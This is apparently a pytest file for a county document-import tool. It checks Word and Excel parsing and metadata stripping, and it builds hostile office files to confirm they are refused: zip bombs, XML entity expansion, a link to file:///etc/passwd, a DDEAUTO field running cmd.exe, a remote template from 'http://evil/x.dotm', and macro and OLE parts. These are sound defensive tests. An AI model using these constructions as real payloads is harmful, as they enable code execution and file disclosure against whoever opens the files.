"""A folder of Word files with an index, attachments beside them; and office files that mean harm."""

import io
import os
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from docx.enum.text import WD_ALIGN_PARAGRAPH
from docx.oxml import OxmlElement
from openpyxl import Workbook
from PIL import Image

from sync import contract
from sync.county.approvals import file_path
from sync.county.papers.errors import PaperError
from sync.county.papers.workshop import Workshop
from sync.county.records import FindingRow
from tests.county.papers.conftest import County, Take, documents
from tests.county.papers.office import DISCLOSURE, pdf, photo, repacked, workbook

INDEX = {key: value for key, value in DISCLOSURE.items() if key != "正文"} | {"标题": "", "正文文件": "通知.docx"}


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    found = tmp_path / "材料"
    found.mkdir()
    workbook(found / "索引.xlsx", disclosures=[INDEX])
    return found


def letter(path: Path) -> Path:
    """A Word file with everything we take and some of what we leave out."""
    document = docx.Document()
    title = document.add_paragraph("关于南沟村道路硬化的公示")
    title.alignment = WD_ALIGN_PARAGRAPH.CENTER
    document.add_heading("一、基本情况", level=1)
    document.add_paragraph("拟硬化村道两公里，𣵦河沿岸。")
    document.add_paragraph("路面宽三米", style="List Bullet")
    document.add_paragraph("两侧排水", style="List Bullet")
    document.add_paragraph("先公示", style="List Number")
    table = document.add_table(rows=5, cols=3)
    table.cell(0, 0).merge(table.cell(1, 0)).text = "路段"
    table.cell(0, 1).merge(table.cell(0, 2)).text = "工程"
    table.cell(1, 1).text, table.cell(1, 2).text = "长度(米)", "金额(元)"
    table.cell(2, 0).merge(table.cell(3, 0)).text = "东段"
    for row, (length, money) in enumerate((("800", "12,000"), ("200", "3,000"), ("1000", "15,000")), start=2):
        table.cell(row, 1).text, table.cell(row, 2).text = length, money
    table.cell(4, 0).text = "合计"
    picture = io.BytesIO()
    Image.new("RGB", (30, 10), (0, 90, 0)).save(picture, "PNG")
    document.add_picture(io.BytesIO(picture.getvalue()))
    document.sections[0].header.paragraphs[0].text = "内部流转单"
    run = document.add_paragraph("看得见").add_run("看不见")
    run.font.hidden = True
    document.save(str(path))
    return path


def test_a_word_file_becomes_blocks_and_the_rest_is_named(folder: Path, take: Take, county: County) -> None:
    letter(folder / "通知.docx")
    (folder / "多余.docx").write_bytes(b"x")
    report = take(folder)
    assert [str(one) for one in report.refused] == []
    (document,) = documents(county[0])
    assert document.title == "关于南沟村道路硬化的公示"
    shown = [contract.dump(block) for block in document.blocks]
    assert shown[:4] == [
        {"type": "heading", "text": "一、基本情况"},
        {"type": "paragraph", "text": "拟硬化村道两公里，𣵦河沿岸。"},
        {"type": "list", "items": ["路面宽三米", "两侧排水"]},
        {"type": "list", "items": ["先公示"], "ordered": True},
    ]
    assert shown[4] == {
        "type": "table", "total": True,
        "columns": [{"name": "路段"}, {"name": "工程·长度(米)", "numeric": True}, {"name": "工程·金额(元)", "numeric": True}],
        "rows": [["东段", "800", "12,000"], ["东段", "200", "3,000"], ["合计", "1000", "15,000"]],
    }  # fmt: skip
    assert shown[5]["type"] == "picture"
    assert shown[6] == {"type": "paragraph", "text": "看得见"}
    assert file_path(county[1].folder, shown[5]["sha256"]).exists()
    assert [(one.place.file, one.reason) for one in report.left_out] == [
        ("索引.xlsx", "Word 文件里的页眉页脚没有导入"), ("索引.xlsx", "Word 文件里的隐藏文字没有导入"),
        ("多余.docx", "没有写在索引表里，没有导入"),
    ]  # fmt: skip
    assert take(folder).unchanged == 1


def test_pictures_are_drawn_anew_without_where_and_by_whom(folder: Path, take: Take, county: County) -> None:
    letter(folder / "通知.docx")
    photo(folder / "现场.JPG", size=(40, 20), turned=6, words="Phone of Li")
    workbook(folder / "索引.xlsx", disclosures=[INDEX | {"附件": "现场.JPG"}])
    assert [str(one) for one in take(folder).refused] == []
    attachment = next(a for a in documents(county[0])[0].attachments if a.name == "现场.JPG")
    data = file_path(county[1].folder, attachment.sha256).read_bytes()
    assert b"Phone of Li" not in data
    assert b"Exif" not in data
    with Image.open(io.BytesIO(data)) as picture:
        assert (picture.size, dict(picture.getexif()), picture.format) == ((20, 40), {}, "JPEG")
        colours = picture.convert("RGB")
        top = colours.crop((0, 0, 20, 5)).resize((1, 1)).tobytes()
        bottom = colours.crop((0, 35, 20, 40)).resize((1, 1)).tobytes()
    assert top[0] > 200 > top[1]  # the red half, turned up
    assert min(bottom) > 200
    with county[0].begin() as session:
        assert {finding.rule for finding in session.query(FindingRow)} == {"picture"}  # a reviewer has to look at it


def test_a_pdf_keeps_its_bytes_and_a_video_its_silence(folder: Path, take: Take, county: County) -> None:
    letter(folder / "通知.docx")
    data = pdf(folder / "预算.pdf", ["Budget"]).read_bytes()
    (folder / "会议.mp4").write_bytes(b"\0\0\0\x18ftypisom" + bytes(2000))
    (folder / "坏.mp4").write_bytes(b"\0\0\0\x18ftypisom" + bytes(500) + b"\xa9xyz+38.7+111.5/")
    workbook(folder / "索引.xlsx", disclosures=[INDEX | {"附件": "预算.pdf\n会议.mp4"}])
    assert [str(one) for one in take(folder).refused] == []
    kept = {a.name: a for a in documents(county[0])[0].attachments}
    assert file_path(county[1].folder, kept["预算.pdf"].sha256).read_bytes() == data
    assert (kept["预算.pdf"].type, kept["会议.mp4"].type) == ("application/pdf", "video/mp4")
    workbook(folder / "索引.xlsx", disclosures=[INDEX | {"附件": "坏.mp4"}])
    assert "视频里记着拍摄地点" in take(folder).refused[0].reason


def bomb(path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * 300_000_000)
    return path


def lying_bomb(path: Path) -> Path:
    """Says that it is small, and is not."""
    bomb(path)
    data = bytearray(path.read_bytes())
    for at in range(len(data) - 4):
        if data[at : at + 4] == (300_000_000).to_bytes(4, "little"):
            data[at : at + 4] = (1_000).to_bytes(4, "little")
    path.write_bytes(data)
    return path


def blank_rows(path: Path) -> Path:
    book = Workbook(write_only=True)
    page = book.create_sheet("公开事项")
    page.append(list(DISCLOSURE))
    page.append(list(DISCLOSURE.values()))
    book.save(path)
    rows = b"".join(b'<row r="%d"><c r="A%d"/></row>' % (n, n) for n in range(3, 1_000_000))
    return repacked(
        path,
        path.with_name("空行.xlsx"),
        replace={"xl/worksheets/sheet1.xml": (b"</sheetData>", rows + b"</sheetData>")},
    )


def gap(path: Path) -> Path:
    return repacked(workbook(path, disclosures=[DISCLOSURE]), path.with_name("空洞.xlsx"), replace={
        "xl/worksheets/sheet1.xml": (b"</sheetData>", b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'),
    })  # fmt: skip


def with_part(name: str, data: bytes = b"x") -> Callable[[Path], Path]:
    def make(path: Path) -> Path:
        return repacked(workbook(path, disclosures=[DISCLOSURE]), path.with_name("加料.xlsx"), {name: data})

    return make


def entities(path: Path) -> Path:
    laughs = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><worksheet/>'
    return with_part("xl/worksheets/sheet9.xml", laughs)(path)


def outside(path: Path) -> Path:
    return repacked(workbook(path, disclosures=[DISCLOSURE]), path.with_name("外链.xlsx"), replace={
        "xl/_rels/workbook.xml.rels": (b"</Relationships>", b'<Relationship Id="z" Type="http://x/externalLinkPath" Target="file:///etc/passwd" TargetMode="External"/></Relationships>'),
    })  # fmt: skip


def encrypted(path: Path) -> Path:
    path.write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + os.urandom(4000))
    return path


def broken(path: Path) -> Path:
    workbook(path, disclosures=[DISCLOSURE])
    path.write_bytes(path.read_bytes()[:-200])
    return path


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (bomb, "压缩炸弹"),
        (lying_bomb, "坏了|炸弹|不是完好的"),
        (blank_rows, "5000多个空行"),
        (gap, "5000多个空行"),
        (entities, "实体定义"),
        (outside, "链接着外面的文件"),
        (with_part("xl/vbaProject.bin"), "宏"),
        (with_part("xl/externalLinks/externalLink1.xml"), "链接着别的工作簿"),
        (with_part("xl/embeddings/oleObject1.bin"), "嵌着别的文件"),
        (encrypted, "加密的文件"),
        (broken, "不是完好的"),
    ],
)  # fmt: skip
def test_a_hostile_workbook_is_refused_in_bounded_time(make: Callable[[Path], Path], reason: str, tmp_path: Path, take: Take) -> None:  # fmt: skip
    path = make(tmp_path / "表.xlsx")
    start = time.monotonic()
    with pytest.raises(PaperError, match=reason) as caught:
        take(path)
    assert time.monotonic() - start < 60  # a child that answers nothing is ended after 40
    assert "\n" not in str(caught.value)


def revised(path: Path) -> Path:
    document = docx.Document()
    paragraph = document.add_paragraph("正文")
    paragraph._p.append(OxmlElement("w:ins"))
    document.save(str(path))
    return path


def nested(path: Path) -> Path:
    document = docx.Document()
    document.add_table(rows=1, cols=1).cell(0, 0).add_table(rows=1, cols=1)
    document.save(str(path))
    return path


def wide(path: Path) -> Path:
    document = docx.Document()
    document.add_table(rows=1, cols=13).cell(0, 0).text = "x"
    document.save(str(path))
    return path


def dde(path: Path) -> Path:
    document = docx.Document()
    node = OxmlElement("w:instrText")
    node.text = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
    document.add_paragraph("x").add_run()._r.append(node)
    document.save(str(path))
    return path


def template_link(path: Path) -> Path:
    plain = letter(path.with_name("信.docx"))
    link = b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/></Relationships>'
    repacked(plain, path, replace={"word/_rels/document.xml.rels": (b"</Relationships>", link)})
    plain.unlink()
    return path


@pytest.mark.parametrize(
    ("make", "reason"),
    [(revised, "修订痕迹"), (nested, "表格里套着表格"), (wide, "13栏"), (dde, "DDE"), (template_link, "链接着外面")],
)
def test_a_word_file_that_would_say_something_else_is_refused(
    make: Callable[[Path], Path], reason: str, folder: Path, take: Take
) -> None:
    make(folder / "通知.docx")
    (refusal,) = take(folder).refused
    assert refusal.column == "正文文件"
    assert reason in refusal.reason


def flood(path: Path) -> Path:
    """A PNG of 30,000 x 30,000 pixels in a few kilobytes."""
    Image.MAX_IMAGE_PIXELS = None
    Image.new("1", (30_000, 30_000)).save(path, "PNG")
    return path


def cut(path: Path) -> Path:
    photo(path)
    path.write_bytes(path.read_bytes()[:300])
    return path


def locked(path: Path) -> Path:
    data = pdf(path, ["secret"]).read_bytes()
    keys = b"/Encrypt<</Filter/Standard/V 1/R 2/O<" + b"00" * 32 + b">/U<" + b"00" * 32 + b">/P -4>>/ID[<00><00>]"
    path.write_bytes(data.replace(b"/Root 1 0 R", b"/Root 1 0 R" + keys))
    return path


@pytest.mark.parametrize(
    ("name", "make", "reason"),
    [
        ("图.png", flood, "像素"),
        ("图.jpg", cut, "不是完好的"),
        ("图.png", lambda p: p.write_bytes(b"GIF89a") and p, "不是完好的"),
        ("文.pdf", lambda p: p.write_bytes(b"%PDF-1.4\nnothing") and p, "PDF 坏了"),
        ("文.pdf", locked, "密码"),
        ("文.pdf", lambda p: pdf(p, ["x"] * 301), "301页"),
        ("片.mp4", lambda p: p.write_bytes(b"not a film") and p, "不是 MP4"),
        ("文.exe", lambda p: p.write_bytes(b"MZ") and p, "只能是"),
    ],
)
def test_a_hostile_attachment_is_refused(name: str, make: Callable[[Path], Path], reason: str, tmp_path: Path, take: Take) -> None:  # fmt: skip
    make(tmp_path / name)
    path = workbook(tmp_path / "表.xlsx", disclosures=[DISCLOSURE | {"附件": name}])
    (refusal,) = take(path).refused
    assert refusal.column == "附件"
    assert reason in refusal.reason


def test_a_child_that_stalls_or_eats_memory_is_ended(tmp_path: Path) -> None:
    path = workbook(tmp_path / "表.xlsx", disclosures=[DISCLOSURE] * 3000)
    with Workshop(stall_s=0.01) as slow, pytest.raises(PaperError, match="太慢"):
        list(slow.run("table", path))
    with Workshop(memory_bytes=30_000_000) as small, pytest.raises(PaperError, match=r"内存|打不开"):
        list(small.run("table", path))
    with Workshop() as fine:
        assert sum(len(item.get("rows", ())) for item in fine.run("table", path)) == 3001
        assert sum(len(item.get("rows", ())) for item in fine.run("table", path)) == 3001


def test_the_child_inherits_no_secret(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COUNTY_PASSPHRASE", "never to be seen")
    with Workshop() as workshop:
        list(workshop.run("table", workbook(tmp_path / "x.xlsx", disclosures=[DISCLOSURE])))
        assert workshop._child is not None
        environment = Path(f"/proc/{workshop._child.pid}/environ").read_bytes()
    assert b"never to be seen" not in environment
